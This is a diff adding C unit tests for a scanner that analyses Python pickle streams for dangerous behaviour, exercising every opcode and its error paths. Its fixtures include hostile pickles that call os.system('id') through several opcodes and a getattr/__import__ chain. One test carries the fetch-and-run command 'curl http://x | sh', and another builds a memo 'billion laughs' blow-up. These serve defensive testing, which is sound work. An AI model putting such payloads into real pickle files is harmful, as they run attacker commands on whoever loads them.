@@ -1,0 +1,421 @@
+/* Unit tests for the pickle VM: every opcode, its success and its error
+ * paths, and the semantics scanners get wrong (memo, frames, dotted names,
+ * compat names, joblib arrays, derived globals). */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "scan.h"
+
+typedef struct vm_case {
+    const char *name;
+    const char *bytes;
+    size_t len;
+    int complete;         /* stream 0 reached STOP */
+    int code;             /* a finding with this code must exist (0: no finding at all) */
+    const char *globals;  /* ";"-joined resolved module.name of stream 0, NULL: don't check */
+    const char *calls;    /* ";"-joined callees of stream 0, NULL: don't check */
+} vm_case;
+
+#define B(s) s, sizeof(s) - 1
+
+static const vm_case cases[] = {
+    /* MARK, STOP, POP, POP_MARK, DUP */
+    {"mark_tuple", B("(K\x01K\x02t."), 1, 0, "", ""},
+    {"stop_empty", B("."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"pop", B("K\x01K\x02" "0."), 1, 0, "", ""},
+    {"pop_underflow", B("0."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"pop_removes_mark", B("K\x01(0."), 1, 0, "", ""},
+    {"pop_above_mark", B("K\x01(K\x02" "00."), 1, 0, "", ""},
+    {"pop_mark", B("K\x01(K\x02" "1."), 1, 0, "", ""},
+    {"pop_mark_missing", B("1."), 0, PJ_MARK_MISSING, "", ""},
+    {"dup", B("K\x01" "2\x86."), 1, 0, "", ""},
+    {"dup_underflow", B("2."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"unexpected_mark", B("(."), 0, PJ_UNEXPECTED_MARK, "", ""},
+    /* numbers */
+    {"float", B("F1.5\n."), 1, 0, "", ""},
+    {"float_bad", B("Fabc\n."), 0, PJ_BAD_LITERAL, "", ""},
+    {"float_truncated", B("F1.5"), 0, PJ_TRUNCATED, "", ""},
+    {"int", B("I42\n."), 1, 0, "", ""},
+    {"int_bool", B("I01\n."), 1, 0, "", ""},
+    {"int_octal_like_strtol", B("I010\n."), 1, 0, "", ""},
+    {"int_big", B("I123456789012345678901234567890\n."), 1, 0, "", ""},
+    {"int_bad", B("Ixyz\n."), 0, PJ_BAD_LITERAL, "", ""},
+    {"binint", B("J\xff\xff\xff\xff."), 1, 0, "", ""},
+    {"binint_truncated", B("J\x01"), 0, PJ_TRUNCATED, "", ""},
+    {"binint1", B("K\x07."), 1, 0, "", ""},
+    {"binint1_truncated", B("K"), 0, PJ_TRUNCATED, "", ""},
+    {"binint2", B("M\x01\x02."), 1, 0, "", ""},
+    {"binint2_truncated", B("M\x01"), 0, PJ_TRUNCATED, "", ""},
+    {"long", B("L123L\n."), 1, 0, "", ""},
+    {"long_bad", B("L12a\n."), 0, PJ_BAD_LITERAL, "", ""},
+    {"long1", B("\x8a\x02\xff\x00."), 1, 0, "", ""},
+    {"long1_big", B("\x8a\x09\x01\x02\x03\x04\x05\x06\x07\x08\x09."), 1, 0, "", ""},
+    {"long1_truncated", B("\x8a\x05\x01"), 0, PJ_TRUNCATED, "", ""},
+    {"long4", B("\x8b\x01\x00\x00\x00\x05."), 1, 0, "", ""},
+    {"long4_negative", B("\x8b\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
+    {"binfloat", B("G?\xf8\x00\x00\x00\x00\x00\x00."), 1, 0, "", ""},
+    {"binfloat_truncated", B("G?\xf8"), 0, PJ_TRUNCATED, "", ""},
+    /* strings and bytes */
+    {"string", B("S'abc'\n."), 1, 0, "", ""},
+    {"string_escapes", B("S'a\\x41\\n\\'\\101'\n."), 1, 0, "", ""},
+    {"string_unquoted", B("Sabc\n."), 0, PJ_BAD_LITERAL, "", ""},
+    {"string_bad_hex", B("S'a\\x4'\n."), 0, PJ_BAD_LITERAL, "", ""},
+    {"binstring", B("T\x03\x00\x00\x00" "abc."), 1, 0, "", ""},
+    {"binstring_negative", B("T\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
+    {"short_binstring", B("U\x03" "abc."), 1, 0, "", ""},
+    {"short_binstring_truncated", B("U\x05" "ab"), 0, PJ_TRUNCATED, "", ""},
+    {"binbytes", B("B\x02\x00\x00\x00hi."), 1, 0, "", ""},
+    {"binbytes_truncated", B("B\x10\x00\x00\x00hi"), 0, PJ_TRUNCATED, "", ""},
+    {"short_binbytes", B("C\x02hi."), 1, 0, "", ""},
+    {"short_binbytes_truncated", B("C\x09hi"), 0, PJ_TRUNCATED, "", ""},
+    {"binbytes8", B("\x8e\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
+    {"binbytes8_huge", B("\x8e\xff\xff\xff\xff\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
+    {"binbytes8_past_end", B("\x8e\x00\x00\x00\x00\x00\x00\x00\x40"), 0, PJ_TRUNCATED, "", ""},
+    {"bytearray8", B("\x96\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
+    {"bytearray8_truncated", B("\x96\x09\x00\x00\x00\x00\x00\x00\x00hi"), 0, PJ_TRUNCATED, "", ""},
+    {"unicode", B("Vab\\u0041\n."), 1, 0, "", ""},
+    {"unicode_bad_escape", B("Va\\u00\n."), 0, PJ_BAD_ENCODING, "", ""},
+    {"short_binunicode", B("\x8c\x02hi."), 1, 0, "", ""},
+    {"short_binunicode_bad_utf8", B("\x8c\x02\xff\xfe."), 0, PJ_BAD_ENCODING, "", ""},
+    {"short_binunicode_truncated", B("\x8c\x05hi"), 0, PJ_TRUNCATED, "", ""},
+    {"binunicode", B("X\x02\x00\x00\x00hi."), 1, 0, "", ""},
+    {"binunicode_truncated", B("X\x02\x00"), 0, PJ_TRUNCATED, "", ""},
+    {"binunicode8", B("\x8d\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
+    {"binunicode8_huge", B("\x8d\xff\xff\xff\xff\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
+    /* buffers, constants */
+    {"next_buffer", B("\x97."), 1, PJ_OUT_OF_BAND_BUFFER, "", ""},
+    {"readonly_buffer", B("\x97\x98."), 1, PJ_OUT_OF_BAND_BUFFER, "", ""},
+    {"readonly_buffer_underflow", B("\x98."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"none", B("N."), 1, 0, "", ""},
+    {"newtrue", B("\x88."), 1, 0, "", ""},
+    {"newfalse", B("\x89."), 1, 0, "", ""},
+    /* containers */
+    {"empty_list", B("]."), 1, 0, "", ""},
+    {"append", B("]K\x01" "a."), 1, 0, "", ""},
+    {"append_underflow", B("K\x01" "a."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"append_to_tuple", B(")K\x01" "a."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
+    {"appends", B("](K\x01K\x02" "e."), 1, 0, "", ""},
+    {"appends_no_list", B("(K\x01" "e."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"appends_no_mark", B("]K\x01" "e."), 0, PJ_MARK_MISSING, "", ""},
+    {"list", B("(K\x01l."), 1, 0, "", ""},
+    {"list_no_mark", B("l."), 0, PJ_MARK_MISSING, "", ""},
+    {"empty_tuple", B(")."), 1, 0, "", ""},
+    {"tuple", B("(t."), 1, 0, "", ""},
+    {"tuple_no_mark", B("t."), 0, PJ_MARK_MISSING, "", ""},
+    {"tuple1", B("K\x01\x85."), 1, 0, "", ""},
+    {"tuple1_underflow", B("\x85."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"tuple2", B("K\x01K\x02\x86."), 1, 0, "", ""},
+    {"tuple2_underflow", B("K\x01\x86."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"tuple3", B("K\x01K\x02K\x03\x87."), 1, 0, "", ""},
+    {"tuple3_underflow", B("K\x01K\x02\x87."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"empty_dict", B("}."), 1, 0, "", ""},
+    {"dict", B("(K\x01K\x02" "d."), 1, 0, "", ""},
+    {"dict_odd", B("(K\x01" "d."), 0, PJ_ODD_ITEMS, "", ""},
+    {"setitem", B("}K\x01K\x02s."), 1, 0, "", ""},
+    {"setitem_underflow", B("K\x01s."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"setitems", B("}(K\x01K\x02u."), 1, 0, "", ""},
+    {"setitems_odd", B("}(K\x01u."), 0, PJ_ODD_ITEMS, "", ""},
+    {"empty_set", B("\x8f."), 1, 0, "", ""},
+    {"additems", B("\x8f(K\x01\x90."), 1, 0, "", ""},
+    {"additems_on_list", B("](K\x01\x90."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
+    {"frozenset", B("(K\x01\x91."), 1, 0, "", ""},
+    {"frozenset_no_mark", B("\x91."), 0, PJ_MARK_MISSING, "", ""},
+    /* memo */
+    {"put_get", B("K\x01p0\n0g0\n."), 1, 0, "", ""},
+    {"get_missing", B("g5\n."), 0, PJ_MEMO_MISSING, "", ""},
+    {"put_negative", B("K\x01p-1\n."), 0, PJ_BAD_MEMO_KEY, "", ""},
+    {"put_empty_line", B("K\x01p\n."), 0, PJ_TRUNCATED, "", ""},
+    {"put_underflow", B("p0\n."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"binput_binget", B("K\x01q\x00" "0h\x00."), 1, 0, "", ""},
+    {"binget_missing", B("h\x07."), 0, PJ_MEMO_MISSING, "", ""},
+    {"long_binput_get", B("K\x01r\xff\xff\xff\xff" "0j\xff\xff\xff\xff."), 1, 0, "", ""},
+    {"long_binget_missing", B("j\x01\x00\x00\x00."), 0, PJ_MEMO_MISSING, "", ""},
+    {"memoize", B("\x80\x04K\x01\x94" "0h\x00."), 1, 0, "", ""},
+    {"memoize_underflow", B("\x94."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    /* MEMOIZE uses the number of memo entries, not the last PUT index. */
+    {"memoize_after_put", B("\x80\x04\x8c\x02osq\x05" "0\x8c\x06system\x94" "0h\x05h\x01\x93."), 1, 0,
+     "os.system", ""},
+    /* extensions */
+    {"ext1", B("\x82\x01."), 1, PJ_EXT_OPCODE, "copyreg._extension_registry[1]", ""},
+    {"ext2", B("\x83\x01\x02."), 1, PJ_EXT_OPCODE, "copyreg._extension_registry[513]", ""},
+    {"ext4_zero", B("\x84\x00\x00\x00\x00."), 0, PJ_BAD_LITERAL, NULL, ""},
+    {"ext1_truncated", B("\x82"), 0, PJ_TRUNCATED, "", ""},
+    /* globals */
+    {"global", B("cos\nsystem\n."), 1, 0, "os.system", ""},
+    {"global_truncated", B("cos\nsys"), 0, PJ_TRUNCATED, "", ""},
+    {"global_compat_p2", B("\x80\x02" "c__builtin__\neval\n."), 1, 0, "builtins.eval", ""},
+    {"global_compat_p0", B("ccopy_reg\n_reconstructor\n."), 1, 0, "copyreg._reconstructor", ""},
+    {"global_no_compat_p3", B("\x80\x03" "c__builtin__\neval\n."), 1, 0, "__builtin__.eval", ""},
+    {"global_dotted_p4", B("\x80\x04" "cpathlib\nos.system\n."), 1, 0, "pathlib.os.system", ""},
+    {"global_dotted_p2_fails", B("\x80\x02" "cpathlib\nos.system\n."), 0, PJ_BAD_GLOBAL_NAME,
+     "pathlib.os.system", ""},
+    {"global_locals", B("\x80\x04" "cm\nf.<locals>.g\n."), 0, PJ_BAD_GLOBAL_NAME, NULL, ""},
+    {"global_bad_utf8", B("c\xff\nx\n."), 0, PJ_BAD_ENCODING, "", ""},
+    {"global_empty_module", B("c\nx\n."), 0, PJ_BAD_GLOBAL_NAME, NULL, ""},
+    {"stack_global", B("\x8c\x02os\x8c\x06system\x93."), 1, 0, "os.system", ""},
+    {"stack_global_not_str", B("K\x01K\x02\x93."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
+    {"stack_global_underflow", B("\x8c\x02os\x93."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"stack_global_string_ops", B("S'os'\nS'system'\n\x93S'ls'\n\x85R."), 1, 0, "os.system",
+     "os.system"},
+    /* calls */
+    {"reduce", B("cos\nsystem\n(S'id'\ntR."), 1, 0, "os.system", "os.system"},
+    {"reduce_not_tuple", B("cos\nsystem\nK\x01R."), 0, PJ_BAD_OPERAND_TYPE, "os.system", ""},
+    {"reduce_underflow", B("R."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"reduce_then_pop", B("cos\nsystem\n(S'id'\ntR0N."), 1, 0, "os.system", "os.system"},
+    {"build", B("cx\nY\n)R}b."), 1, 0, "x.Y", "x.Y;x.Y()"},
+    {"build_underflow", B("b."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"inst", B("(S'id'\nios\nsystem\n."), 1, 0, "os.system", "os.system"},
+    {"inst_no_mark", B("ios\nsystem\n."), 0, PJ_MARK_MISSING, "", ""},
+    {"obj", B("(cos\nsystem\nS'id'\no."), 1, 0, "os.system", "os.system"},
+    {"obj_empty", B("(o."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    {"newobj", B("cx\nY\n)\x81."), 1, 0, "x.Y", "x.Y"},
+    {"newobj_not_tuple", B("cx\nY\nK\x01\x81."), 0, PJ_BAD_OPERAND_TYPE, "x.Y", ""},
+    {"newobj_ex", B("cx\nY\n)}\x92."), 1, 0, "x.Y", "x.Y"},
+    {"newobj_ex_bad_kwargs", B("cx\nY\n)]\x92."), 0, PJ_BAD_OPERAND_TYPE, "x.Y", ""},
+    {"getattr_chain",
+     B("\x80\x02" "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR."),
+     1, 0, "builtins.getattr;builtins.__import__;os.;os.system",
+     "builtins.__import__;builtins.getattr;os.system"},
+    /* protocol and frames */
+    {"proto", B("\x80\x05N."), 1, 0, "", ""},
+    {"proto_6", B("\x80\x06N."), 0, PJ_PROTO_UNSUPPORTED, "", ""},
+    {"proto_truncated", B("\x80"), 0, PJ_TRUNCATED, "", ""},
+    {"frame", B("\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00N."), 1, 0, "", ""},
+    {"frame_truncated", B("\x95\x10\x00\x00\x00\x00\x00\x00\x00N."), 0, PJ_TRUNCATED, "", ""},
+    {"frame_straddle", B("\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00\x8c\x05" "ahello."), 1,
+     PJ_FRAME_STRADDLE, "", ""},
+    {"frame_nested", B("\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x95\x01\x00\x00\x00\x00\x00\x00\x00N."),
+     1, PJ_FRAME_NESTED, "", ""},
+    /* persistent ids */
+    {"persid", B("PX\n."), 1, PJ_PERSISTENT_ID, "", ""},
+    {"persid_non_ascii", B("P\xff\n."), 0, PJ_BAD_ENCODING, "", ""},
+    {"binpersid_storage", B("(S'storage'\ncx\nY\nS'0'\nS'cuda:0'\nK\x01tQ."), 1, 0, "x.Y", ""},
+    {"binpersid_other", B("K\x01Q."), 1, PJ_PERSISTENT_ID, "", ""},
+    {"binpersid_underflow", B("Q."), 0, PJ_STACK_UNDERFLOW, "", ""},
+    /* unknown opcode */
+    {"unknown_opcode", B("\xff."), 0, PJ_UNKNOWN_OPCODE, "", ""},
+    /* joblib: raw array bytes after the wrapper's BUILD, payload after them */
+    {"joblib_array_then_payload",
+     B("\x80\x02" "cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(U\x05shape"
+       "K\x02\x85U\x05" "dtypecnumpy\ndtype\n(U\x02" "f8K\x00K\x01tRU\x05orderU\x01" "Cub"
+       "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f"
+       "cos\nsystem\n(U\x02idtR."),
+     1, PJ_STACK_NOT_EMPTY, NULL, NULL},
+};
+
+static pj_report *run(const vm_case *c, bool *complete)
+{
+    pj_options o;
+    pj_options_default(&o);
+    pj_report *r = pj_report_new(1u << 26, 1000);
+    assert_non_null(r);
+    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
+    size_t end;
+    *complete = pj_scan_one_pickle(&ctx, (const uint8_t *)c->bytes, c->len, 0, "", 0, &end);
+    return r;
+}
+
+static void join_globals(const pj_report *r, char *buf, size_t cap)
+{
+    buf[0] = '\0';
+    for (size_t i = 0; i < r->n_globals; i++) {
+        if (r->globals[i].stream != 0)
+            continue;
+        size_t l = strlen(buf);
+        snprintf(buf + l, cap - l, "%s%s.%s", l ? ";" : "", r->globals[i].resolved_module,
+                 r->globals[i].resolved_name);
+    }
+}
+
+static void join_calls(const pj_report *r, char *buf, size_t cap)
+{
+    buf[0] = '\0';
+    for (size_t i = 0; i < r->n_calls; i++) {
+        if (r->calls[i].stream != 0)
+            continue;
+        size_t l = strlen(buf);
+        snprintf(buf + l, cap - l, "%s%s", l ? ";" : "", r->calls[i].callee);
+    }
+}
+
+static void test_case(void **state)
+{
+    const vm_case *c = *state;
+    bool complete;
+    pj_report *r = run(c, &complete);
+    char buf[1024];
+    if ((int)complete != c->complete)
+        fail_msg("%s: complete=%d, expected %d", c->name, complete, c->complete);
+    if (c->code == 0) {
+        for (size_t i = 0; i < r->n_findings; i++)
+            if (r->findings[i].severity != PJ_SEV_INFO)
+                fail_msg("%s: unexpected finding %s: %s", c->name, pj_code_id(r->findings[i].code),
+                         r->findings[i].message);
+    } else if (!pj_report_has_code(r, (pj_code)c->code)) {
+        fail_msg("%s: missing finding PJ%d (have %zu findings%s%s)", c->name, c->code,
+                 r->n_findings, r->n_findings ? ", first: " : "",
+                 r->n_findings ? r->findings[0].message : "");
+    }
+    if (c->globals) {
+        join_globals(r, buf, sizeof buf);
+        if (strcmp(buf, c->globals) != 0)
+            fail_msg("%s: globals '%s', expected '%s'", c->name, buf, c->globals);
+    }
+    if (c->calls) {
+        join_calls(r, buf, sizeof buf);
+        if (strcmp(buf, c->calls) != 0)
+            fail_msg("%s: calls '%s', expected '%s'", c->name, buf, c->calls);
+    }
+    pj_report_free(r);
+}
+
+/* Every opcode byte of the table is exercised by some case above. */
+static void test_all_opcodes_covered(void **state)
+{
+    (void)state;
+    int seen[256] = {0};
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
+        for (size_t k = 0; k < cases[i].len; k++)
+            seen[(uint8_t)cases[i].bytes[k]] = 1;
+    int names = 0;
+    for (int b = 0; b < 256; b++) {
+        if (pj_opcode_name((uint8_t)b) == NULL)
+            continue;
+        names++;
+        if (!seen[b])
+            fail_msg("opcode %s (0x%02x) has no test", pj_opcode_name((uint8_t)b), b);
+    }
+    assert_int_equal(names, 68);
+}
+
+/* Call arguments are summarised as expressions. */
+static void test_call_rendering(void **state)
+{
+    (void)state;
+    static const char p[] = "cos\nsystem\n(S'curl http://x | sh'\ntR.";
+    vm_case c = {"render", p, sizeof p - 1, 1, 0, NULL, NULL};
+    bool complete;
+    pj_report *r = run(&c, &complete);
+    assert_int_equal(r->n_calls, 1);
+    assert_string_equal(r->calls[0].callee, "os.system");
+    assert_string_equal(r->calls[0].args, "('curl http://x | sh',)");
+    assert_int_equal(r->calls[0].callee_global, 0);
+    assert_true(r->globals[0].called);
+    pj_report_free(r);
+}
+
+/* A memo/DUP "billion laughs" stays linear and renders bounded. */
+static void test_billion_laughs(void **state)
+{
+    (void)state;
+    static uint8_t buf[4096];
+    size_t n = 0;
+    buf[n++] = ']';
+    buf[n++] = 'q';
+    buf[n++] = 0;
+    for (int i = 1; i < 60; i++) {
+        buf[n++] = 'h'; buf[n++] = (uint8_t)(i - 1);
+        buf[n++] = 'h'; buf[n++] = (uint8_t)(i - 1);
+        buf[n++] = 0x86;
+        buf[n++] = 'q'; buf[n++] = (uint8_t)i;
+    }
+    static const char tail[] = "cx\nY\n\x85R.";
+    /* wrap the last tuple as the argument of x.Y */
+    buf[n++] = '0';
+    buf[n++] = 'c';
+    memcpy(buf + n, "x\nY\nh;\x85R.", 10);
+    n += 10;
+    (void)tail;
+    vm_case c = {"laughs", (const char *)buf, n, 1, 0, NULL, NULL};
+    bool complete;
+    pj_report *r = run(&c, &complete);
+    assert_true(complete);
+    assert_int_equal(r->n_calls, 1);
+    assert_true(strlen(r->calls[0].args) < 700);
+    pj_report_free(r);
+}
+
+/* Limits are findings, not crashes. */
+static void test_opcode_limit(void **state)
+{
+    (void)state;
+    pj_options o;
+    pj_options_default(&o);
+    o.limits.max_opcodes = 3;
+    pj_report *r = pj_report_new(1u << 24, 100);
+    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
+    size_t end;
+    assert_false(pj_scan_one_pickle(&ctx, (const uint8_t *)"K\x01K\x02K\x03K\x04.", 9, 0, "", 0, &end));
+    assert_true(pj_report_has_code(r, PJ_LIMIT_OPCODES));
+    pj_report_free(r);
+}
+
+static void test_memo_limit(void **state)
+{
+    (void)state;
+    pj_options o;
+    pj_options_default(&o);
+    o.limits.max_memo = 2;
+    pj_report *r = pj_report_new(1u << 24, 100);
+    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
+    size_t end;
+    static const char p[] = "K\x01q\x00q\x01q\x02.";
+    assert_false(pj_scan_one_pickle(&ctx, (const uint8_t *)p, sizeof p - 1, 0, "", 0, &end));
+    assert_true(pj_report_has_code(r, PJ_LIMIT_MEMO));
+    pj_report_free(r);
+}
+
+/* Everything before an error is kept, and scanning resumes at the next
+ * pickle header behind garbage. */
+static void test_payload_then_garbage_then_pickle(void **state)
+{
+    (void)state;
+    static const char p[] = "cos\nsystem\n(S'a'\ntR\xff\xfe\xfd\x80\x02" "cposix\nsystem\n.";
+    pj_options o;
+    pj_options_default(&o);
+    pj_report *r = pj_report_new(1u << 24, 100);
+    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
+    pj_scan_pickles(&ctx, (const uint8_t *)p, sizeof p - 1, "", 0);
+    assert_int_equal(r->n_streams, 2);
+    assert_true(pj_report_has_code(r, PJ_UNKNOWN_OPCODE));
+    assert_true(pj_report_has_code(r, PJ_RESYNC));
+    assert_int_equal(r->n_calls, 1);
+    assert_string_equal(r->globals[1].resolved_module, "posix");
+    pj_report_free(r);
+}
+
+static void test_extra_pickle_and_trailing(void **state)
+{
+    (void)state;
+    static const char p[] = "N.\x80\x02N.garbage";
+    pj_options o;
+    pj_options_default(&o);
+    pj_report *r = pj_report_new(1u << 24, 100);
+    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
+    assert_int_equal(pj_scan_pickles(&ctx, (const uint8_t *)p, sizeof p - 1, "", 0), 2);
+    assert_true(pj_report_has_code(r, PJ_EXTRA_PICKLE));
+    assert_true(pj_report_has_code(r, PJ_TRAILING_DATA));
+    pj_report_free(r);
+}
+
+int main(void)
+{
+    enum { N = sizeof cases / sizeof cases[0] };
+    struct CMUnitTest tests[N + 7];
+    for (size_t i = 0; i < N; i++) {
+        tests[i] = (struct CMUnitTest){cases[i].name, test_case, NULL, NULL, (void *)&cases[i]};
+    }
+    tests[N] = (struct CMUnitTest)cmocka_unit_test(test_all_opcodes_covered);
+    tests[N + 1] = (struct CMUnitTest)cmocka_unit_test(test_call_rendering);
+    tests[N + 2] = (struct CMUnitTest)cmocka_unit_test(test_billion_laughs);
+    tests[N + 3] = (struct CMUnitTest)cmocka_unit_test(test_opcode_limit);
+    tests[N + 4] = (struct CMUnitTest)cmocka_unit_test(test_memo_limit);
+    tests[N + 5] = (struct CMUnitTest)cmocka_unit_test(test_payload_then_garbage_then_pickle);
+    tests[N + 6] = (struct CMUnitTest)cmocka_unit_test(test_extra_pickle_and_trailing);
+    return _cmocka_run_group_tests("vm", tests, N + 7, NULL, NULL);
+}
